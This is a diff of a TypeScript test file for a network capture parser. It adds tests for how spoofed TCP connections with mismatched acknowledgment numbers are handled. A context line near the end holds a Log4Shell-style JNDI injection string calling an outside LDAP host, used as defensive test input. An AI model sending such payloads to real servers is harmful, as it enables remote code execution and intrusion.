@@ -63,6 +63,67 @@ describe('a connection', () => {
     }
   })
 
+  describe('opened in the name of somebody who does not see the answers', () => {
+    const numbered = (
+      from: 'client' | 'server',
+      flags: string,
+      numbers: [number, number],
+      payload = '',
+    ): Packet => {
+      const [sourcePort, destinationPort] = from === 'client' ? [40_000, 80] : [80, 40_000]
+      const [sequence, acknowledgment] = numbers
+      return [from, tcp({ sourcePort, destinationPort, sequence, acknowledgment, flags, payload })]
+    }
+    const opened = [numbered('client', 'S', [1, 0])]
+    const accepted = [numbered('server', 'SA', [900_000, 2])]
+    const refused = [numbered('server', 'RA', [0, 2])]
+    const sent = (acknowledgment: number): Packet[] => [
+      numbered('client', 'PA', [2, acknowledgment], request),
+    ]
+
+    it('has no data: the destination accepted or refused, and read none', async () => {
+      for (const packets of [
+        [...opened, ...accepted, ...sent(1)],
+        [...opened, ...accepted, ...sent(900_000)],
+        [...opened, ...accepted, ...sent(1_000_000)],
+        [...opened, ...sent(1), ...accepted],
+        [...opened, ...refused, ...sent(1)],
+        [...opened, ...sent(1), ...refused],
+      ]) {
+        const one = await only(frames(packets))
+        expect(one).toMatchObject({
+          source: { ip: client },
+          direction: 'request',
+          http: null,
+          protocols: ['tcp'],
+        })
+        expect(one.tcp?.handshake).toBe(false)
+        expect(one.sourcePayload).toHaveLength(0)
+      }
+    })
+
+    it('is unlike one whose acknowledgment is right, be it the only one captured or late', async () => {
+      for (const acknowledgment of [900_001, 900_001 + 1460]) {
+        const one = await only(frames([...opened, ...accepted, ...sent(acknowledgment)]))
+        expect(one.http?.requests).toMatchObject([{ uri: '/a' }])
+        expect(one.tcp?.handshake).toBe(true)
+      }
+      const around = [numbered('server', 'SA', [0xffff_ffff, 2])]
+      expect((await only(frames([...opened, ...around, ...sent(0)]))).tcp?.handshake).toBe(true)
+    })
+
+    it('keeps what the destination bears out, and what only one direction was captured of', async () => {
+      const answered = [
+        ...opened,
+        ...accepted,
+        ...sent(1_000_000),
+        numbered('server', 'PA', [900_500, 9], response),
+      ]
+      expect((await only(frames(answered))).http?.requests).toMatchObject([{ uri: '/a' }])
+      expect((await only(frames([...opened, ...sent(1)]))).http?.requests).toMatchObject([{ uri: '/a' }])
+    })
+  })
+
   it('keeps what each end said apart: what a server asks is no request of its client', async () => {
     const hostile = 'GET /?x=${jndi:ldap://198.51.100.9/a} HTTP/1.1\r\nUser-Agent: evil\r\n\r\n'
     const one = await only(connection('hello\r\n', hostile))
